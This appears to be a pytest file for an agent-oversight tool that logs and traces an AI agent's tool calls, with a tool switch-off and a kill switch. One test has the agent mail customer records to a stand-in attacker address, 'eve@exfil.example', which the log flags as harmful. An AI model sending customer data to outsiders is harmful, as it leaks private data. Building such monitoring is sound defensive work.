"""What Halon reads of an agent under control: log and traces, through Halon's own reader."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest

from halon.control import Control, Refused
from halon_activities.telemetry import deeds_in, deeds_of, documents_of, message_of, reply_of, spans_in


async def test_a_turn_is_read_back_with_all_that_happened(agent: Any, http: httpx.AsyncClient) -> None:
    """Question, documents, answer, and each call: done, refused or failed, authorised or not, to which domain."""
    fail = agent.control.tool("fail")(lambda: 1 / 0)
    with agent.control.turn(session="s-1", message="Mail everybody", customer="C-1") as turn:
        agent.control.retrieved([{"id": "kb-17", "source": "wiki"}])
        agent.send_email("ann@ours.example")
        agent.send_email("Eve <eve@exfil.example>", customers=("C-1", "C-2"))
        await http.put("/control/tools/send_email", json={"enabled": False})
        with pytest.raises(Refused):
            agent.send_email("eve@exfil.example")
        with pytest.raises(ZeroDivisionError):
            fail()
        turn.reply("Done.")
    deeds = deeds_in((await http.get("/v1/actions")).json())
    spans = spans_in((await http.get("/v1/traces", params={"trace_id": turn.trace_id})).json())
    assert deeds is not None
    assert spans is not None
    assert [(one.tool, one.status, one.authorised, one.recipient_domain, one.harmful) for one in deeds] == [
        ("send_email", "done", True, "ours.example", False),
        ("send_email", "done", False, "exfil.example", True),
        ("send_email", "refused", False, "exfil.example", False),
        ("fail", "failed", None, "", False),
    ]
    assert {one.session for one in deeds} == {"s-1"}
    assert "switched off" in deeds[2].reason
    assert deeds[1].arguments["customers"] == ["C-1", "C-2"]
    told = sorted(deeds_of(spans), key=lambda one: one.at)
    assert [(one.id, one.status, one.authorised, one.records) for one in told] == [
        (one.id, one.status, one.authorised, records) for one, records in zip(deeds, (0, 2, 0, None), strict=True)
    ]
    root = next(span for span in spans if span.operation == "invoke_agent")
    retrieval = next(span for span in spans if span.operation == "retrieval")
    assert (message_of(root), reply_of(root), root.own("customer")) == ("Mail everybody", "Done.", "C-1")
    assert documents_of(retrieval) == [("kb-17", "wiki")]
    assert all(span.parent == root.span_id for span in spans if span is not root)
    assert root.attributes["gen_ai.agent.version"] == "1.4.0"


async def test_a_call_outside_any_turn_is_a_trace_of_its_own(agent: Any, http: httpx.AsyncClient) -> None:
    """Scripts and workers are seen as well."""
    await agent.send_later("ann@ours.example")
    spans = spans_in((await http.get("/v1/traces")).json())
    assert spans is not None
    assert [(span.name, span.parent) for span in spans] == [("execute_tool send_later", "")]
    deeds = deeds_in((await http.get("/v1/actions")).json())
    assert deeds is not None
    assert deeds[0].trace_id == spans[0].trace_id


async def test_since_and_limit_give_what_is_asked(agent: Any, http: httpx.AsyncClient) -> None:
    """Without ``since`` the last ones, with it the first ones from then on; always oldest first."""
    for number in range(5):
        agent.lookup(number)
    last = (await http.get("/v1/actions", params={"limit": "2"})).json()["actions"]
    earlier = (datetime.now(UTC) - timedelta(minutes=1)).isoformat()
    first = (await http.get("/v1/actions", params={"limit": "2", "since": earlier})).json()["actions"]
    later = (datetime.now(UTC) + timedelta(minutes=1)).isoformat()
    none = (await http.get("/v1/actions", params={"since": later})).json()["actions"]
    assert [row["arguments"]["order"] for row in last] == [3, 4]
    assert [row["arguments"]["order"] for row in first] == [0, 1]
    assert none == []


async def test_what_json_cannot_hold_does_not_spoil_the_log(agent: Any, http: httpx.AsyncClient) -> None:
    """Objects, NaN, huge numbers, lone surrogates and deep or long values are named, cut or mended."""
    deep: Any = "end"
    for _ in range(50):
        deep = [deep]
    take = agent.control.tool("take")(lambda **given: None)
    take(a=float("nan"), b=10**5000, c="\ud800", d=object(), e="x" * 100_000, f=deep, g={1: {2}}, h=b"raw")
    answer = await http.get("/v1/actions")
    deeds = deeds_in(answer.json())
    assert deeds is not None
    assert "NaN" not in answer.text
    assert len(answer.text) < 10_000
    assert deeds[0].arguments["given"]["d"] == "<object>"
    assert len(deeds[0].arguments["given"]["e"]) == 4_000


async def test_content_can_be_kept_out(tmp_path: Any, reach: Any) -> None:
    """Without content neither words nor arguments lie in the state file; what was done stays visible."""
    control = Control("quiet", state=tmp_path / "quiet.db", content=False)
    send = control.tool("send_email", recipient=lambda call: call["to"])(lambda to, body: None)
    with control.turn(session="s", message="a secret question") as turn:
        send("ann@ours.example", "a secret body")
        turn.reply("a secret answer")
    async with reach(control) as client:
        deeds = deeds_in((await client.get("/v1/actions")).json())
        traces = (await client.get("/v1/traces")).text
    control.close()
    assert deeds is not None
    assert (deeds[0].tool, deeds[0].recipient_domain, deeds[0].arguments) == ("send_email", "ours.example", {})
    assert "secret" not in traces
    assert b"secret" not in (tmp_path / "quiet.db").read_bytes()


async def test_log_and_traces_are_bounded(agent: Any, http: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch) -> None:
    """The oldest goes first; the file does not grow for ever."""
    from halon.control import store as module

    monkeypatch.setattr(module, "MOST", {"action": 20, "trace": 10})
    for number in range(200):
        agent.lookup(number)
        if number % 10 == 0:
            agent.control.flush()
    kept = (await http.get("/v1/actions", params={"limit": "1000"})).json()["actions"]
    assert kept[-1]["arguments"] == {"order": 199}
    assert len(kept) < 150


async def test_a_turn_through_the_middleware_is_overheard(agent: Any, reach: Any) -> None:
    """Session, question and answer are taken from the JSON that goes through, where the app says nothing itself."""

    async def app(scope: Any, receive: Any, send: Any) -> None:
        while (await receive()).get("more_body"):
            continue
        agent.send_email("ann@ours.example")
        headers = [(b"content-type", b"application/json")]
        await send({"type": "http.response.start", "status": 200, "headers": headers})
        await send({"type": "http.response.body", "body": b'{"answer": "It is ', "more_body": True})
        await send({"type": "http.response.body", "body": b'sent."}'})

    async with reach(agent.control, app, turns=["/chat"]) as client:
        said = {"thread_id": "t-9", "messages": [{"role": "user", "content": "Send it"}]}
        await client.post("http://agent/chat", json=said)
        spans = spans_in((await client.get("/v1/traces")).json())
        deeds = deeds_in((await client.get("/v1/actions")).json())
    assert spans is not None
    assert deeds is not None
    root = next(span for span in spans if span.operation == "invoke_agent")
    assert (message_of(root), reply_of(root), deeds[0].session) == ("Send it", "It is sent.", "t-9")


async def test_a_fallback_says_why(agent: Any, http: httpx.AsyncClient) -> None:
    """A message that the agent never saw is no turn of the agent."""
    await http.put("/control/kill-switch", json={"on": True})
    with agent.control.turn(session="s"):
        pass
    spans = spans_in((await http.get("/v1/traces")).json())
    assert spans is not None
    assert [(span.name, span.own("fallback_reason")) for span in spans] == [("fallback", "kill_switch")]


async def test_the_agent_says_who_it_is(agent: Any, http: httpx.AsyncClient) -> None:
    """Another tool is another toolset hash, so that a change can be seen from outside."""
    before = (await http.get("/v1/agent")).json()
    agent.control.tool("new_tool")(lambda: None)
    after = (await http.get("/v1/agent")).json()
    assert (before["name"], before["version"], before["tools"]) == (
        "my-agent",
        "1.4.0",
        ["send_email", "lookup", "send_later"],
    )
    assert before["toolset_hash"] != after["toolset_hash"]
